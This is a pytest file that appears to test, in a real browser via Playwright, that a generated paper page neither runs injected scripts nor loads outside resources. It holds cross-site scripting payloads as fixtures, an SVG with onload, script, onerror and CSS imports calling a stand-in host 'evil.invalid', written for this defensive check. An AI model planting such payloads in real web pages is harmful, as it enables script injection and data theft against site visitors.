"""The page of a paper in a real browser runs nothing of others."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from test_pages import hostile

from normless_papers.pages.site import write_pages_of
from normless_papers.results.reproduction import FIGURE, save

if TYPE_CHECKING:
    from playwright.sync_api import Browser

STEAL = "document.title='stolen';fetch('http://evil.invalid/x')"
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" width="9pt" onload="{STEAL}">
<script>{STEAL}</script>
<image href="http://evil.invalid/a.png" width="9" height="9" onerror="{STEAL}"/>
<style>@import url(http://evil.invalid/a.css);</style>
<rect width="9" height="9" style="fill: url(http://evil.invalid/c.svg#p)"/></svg>"""
OPENED = "document.querySelectorAll('details').forEach(details => details.open = true)"


@pytest.mark.parametrize("inside", [False, True], ids=["as a result", "in the page itself"])
def test_a_hostile_result_runs_and_loads_nothing(browser: Browser, tmp_path: Path, inside: bool) -> None:
    """A script in a text or a figure does not run; the page's policy alone holds too."""
    (save(hostile(), None, tmp_path) / FIGURE).write_text(SVG)
    _, path = write_pages_of(tmp_path)
    if inside:
        planted = f'<main>{SVG}<script>{STEAL}</script><img src=x onerror="{STEAL}">'
        path.write_text(path.read_text("utf-8").replace("<main>", planted, 1))
    page = browser.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("requestfailed", lambda request: request.failure == "csp" and asked.remove(request.url))
    page.goto(path.as_uri())
    page.evaluate(OPENED)
    page.wait_for_load_state("networkidle")
    assert page.title() != "stolen"
    assert {url for url in asked if not url.startswith("data:")} == {path.as_uri()}
    # The page's own script runs.
    assert page.get_by_role("status").inner_text() == "1 of 1 artefacts"
